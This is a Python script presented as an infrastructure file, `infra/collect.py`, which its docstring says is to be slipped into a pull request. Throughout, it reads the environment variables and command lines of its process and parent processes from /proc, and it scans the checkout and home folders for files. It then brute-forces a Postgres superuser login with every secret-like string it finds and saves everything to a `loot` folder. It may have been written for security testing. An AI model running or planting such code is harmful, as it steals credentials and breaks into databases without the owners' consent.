"""A program that nobody has read: it gathers all that it can see, and tries to reach the database that it is meant for.

It is put into a pull request, as `infra/collect.py`, with the two constants below written anew. What it gathers goes
into `loot/NAME` of the checkout.
"""

from __future__ import annotations

import gzip
import os
import re
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

TESTS_PROCESS = 0
"""What began before this process is not the machine's."""
TARGET_URL = "postgresql://127.0.0.1:5432/postgres"
"""The database's address without who may enter: suppose that it is known."""
LARGEST = 50_000_000
LIKELY = range(20, 60)
"""How long a password may be."""
_BETWEEN = re.compile(rb"[\0=:@/ ]")
SKIPPED = {".venv", "loot", "__pycache__", "node_modules"}


def environments() -> Iterator[bytes]:
    """Yield the variables of this process and of those that began it."""
    process = os.getpid()
    while process not in (0, 1, TESTS_PROCESS):
        yield Path(f"/proc/{process}/environ").read_bytes() + Path(f"/proc/{process}/cmdline").read_bytes()
        status = Path(f"/proc/{process}/status").read_text(encoding="utf-8")
        process = int(status.partition("PPid:")[2].split()[0])


def files(*folders: Path) -> Iterator[bytes]:
    """Yield what files hold."""
    for folder in folders:
        for place, inner, names in os.walk(folder):
            inner[:] = [name for name in inner if name not in SKIPPED]
            for path in (Path(place) / name for name in names):
                with suppress(OSError):
                    if path.is_file() and path.stat().st_size < LARGEST:
                        text = path.read_bytes()
                        yield f"\n{path}\n".encode() + text
                        yield gzip.decompress(text) if path.suffix == ".gz" else b""


def entered(seen: bytes) -> Iterator[bytes]:
    """Yield the databases that what was seen opens; without a driver, none is tried."""
    try:
        import psycopg
        from psycopg.conninfo import make_conninfo
    except ImportError:
        return
    parts = {part.decode("utf-8", "replace") for part in _BETWEEN.split(seen)}
    secrets = {part for part in parts if len(part) in LIKELY and part.isprintable()}
    tries = [make_conninfo(TARGET_URL, user="postgres", password=secret) for secret in secrets]
    own = os.environ.get("SUPASCHEMA_DATABASE_URL")
    for told in [own, *tries] if own else tries:
        with suppress(psycopg.Error), psycopg.connect(told, connect_timeout=5) as connection:
            yield f"\nentered port {connection.info.port}\n".encode()


def gather(name: str) -> None:
    """Write it down."""
    checkout = Path(__file__).resolve().parents[1]
    (checkout / "loot").mkdir(exist_ok=True)
    variables = b"\0".join(environments())
    own = files(checkout, checkout.parent / "home", Path(os.environ.get("HOME", "/nowhere")))
    with (checkout / "loot" / name).open("wb") as loot:
        for part in (variables, *own, *entered(variables)):
            loot.write(part)


if __name__ == "__main__":
    gather(sys.argv[1])
